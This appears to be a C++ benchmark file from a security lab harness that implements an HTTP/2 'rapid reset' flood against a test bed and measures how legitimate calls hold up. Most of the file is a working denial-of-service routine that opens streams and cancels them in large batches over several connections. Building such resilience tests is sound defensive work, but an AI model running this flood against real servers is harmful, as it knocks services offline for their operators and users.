// SPDX-FileCopyrightText: PlumeScout contributors
// SPDX-License-Identifier: Apache-2.0
#include <atomic>
#include <cstdint>
#include <string>
#include <thread>

#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "core/types/status_macros.h"
#include "lab/bench/attacks/attack_bed.h"
#include "lab/bench/attacks/http2_frames.h"
#include "lab/bench/attacks/raw_connection.h"

namespace plumescout::lab {
namespace {

constexpr int kConnections = 4;
constexpr int kPairsPerWrite = 200;
constexpr absl::Duration kBeforeReturning = absl::Milliseconds(10);

// Opens streams and resets them at once, over one connection after another.
void Reset(const std::string& target, const std::atomic<bool>& stopping,
           std::atomic<std::int64_t>& resets) {
  constexpr std::uint32_t kLastStream = 0x7FFF'0000u;
  const std::string headers = CallHeaders();
  constexpr std::uint32_t kCancel = 8;
  const std::string cancel = BigEndian(kCancel);
  while (!stopping) {
    const auto connection = RawConnection::Open(target);
    absl::Status status = connection.status();
    if (status.ok()) {
      status =
          (*connection)->Send(absl::StrCat(kHttp2Preface, Frame(FrameType::kSettings, 0, 0, "")));
    }
    for (std::uint32_t stream = 1; !stopping && status.ok() && stream < kLastStream;) {
      std::string frames;
      for (int pair = 0; pair < kPairsPerWrite; ++pair, stream += 2) {
        absl::StrAppend(&frames, Frame(FrameType::kHeaders, kEndHeaders, stream, headers),
                        Frame(FrameType::kResetStream, 0, stream, cancel));
      }
      status = (*connection)->Send(frames);
      if (status.ok()) resets += kPairsPerWrite;
    }
    absl::SleepFor(kBeforeReturning);
  }
}

absl::StatusOr<std::vector<Bar>> Run(const AttackSettings& settings) {
  PLUMESCOUT_ASSIGN_OR_RETURN(const auto bed, AttackBed::Start(settings, {.behind_front = true}));
  std::atomic<bool> stopping = false;
  std::atomic<std::int64_t> resets = 0;
  std::vector<std::thread> threads;
  for (int i = 0; i < kConnections; ++i) {
    threads.emplace_back([&] { Reset(bed->target(), stopping, resets); });
  }
  absl::SleepFor(settings.time);
  const HonestFigures during = bed->Take();
  stopping = true;
  for (std::thread& thread : threads) thread.join();
  std::vector<Bar> bars = bed->Judge(during);
  bars.push_back({"resets sent", static_cast<double>(resets.load())});
  if (settings.front_config.empty()) {
    // The front stops it; a server alone is for networks that one trusts.
    for (Bar& bar : bars) bar.limit.reset();
  }
  return bars;
}

}  // namespace

Attack RapidResetAttack() {
  return {"rapid_reset", "streams opened and reset as fast as can be, over four connections",
          "one honest call in 15 s, 1.6 to 2.8 GB", &Run};
}

}  // namespace plumescout::lab
